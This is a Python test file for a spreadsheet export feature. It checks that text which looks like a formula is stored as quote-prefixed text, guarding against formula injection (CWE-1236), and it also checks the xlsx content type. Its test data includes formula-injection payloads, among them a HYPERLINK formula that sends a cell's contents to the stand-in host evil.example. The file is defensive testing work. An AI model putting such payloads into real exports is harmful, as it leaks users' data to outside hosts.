"""Exported text never runs as a formula (CWE-1236), and the xlsx content type is the registered one."""

import io

from openpyxl import load_workbook

from core.exports import XLSX_CONTENT_TYPE, Column, write_xlsx, xlsx_response
from core.uploads import content_type

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A2,"x")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "=1",
]


class Row:
    def __init__(self, text):
        self.text = text


def cells(content):
    workbook = load_workbook(io.BytesIO(content))
    return [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]


def test_text_that_looks_like_a_formula_is_stored_as_text():
    buffer = io.BytesIO()
    write_xlsx(buffer, [Row(text) for text in HOSTILE], [Column("=Tên", "text")])
    stored = cells(buffer.getvalue())
    assert [cell.data_type for cell in stored] == ["s"] * (1 + len(HOSTILE))
    assert [cell.value for cell in stored[1:]] == HOSTILE
    assert all(cell.quotePrefix for cell in stored), "Excel keeps a quote-prefixed cell text when it is edited"


def test_plain_text_and_numbers_keep_their_types():
    buffer = io.BytesIO()
    write_xlsx(buffer, [Row("Trần Thị Hoa"), Row(-5)], [Column("Tên", "text")])
    name, number = cells(buffer.getvalue())[1:]
    assert (name.data_type, name.quotePrefix) == ("s", False)
    assert (number.value, number.data_type) == (-5, "n")


def test_the_xlsx_content_type_is_the_registered_one_everywhere():
    assert XLSX_CONTENT_TYPE == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert xlsx_response([], [Column("Tên", "text")], "a.xlsx")["Content-Type"] == XLSX_CONTENT_TYPE
    assert content_type("xlsx") == XLSX_CONTENT_TYPE
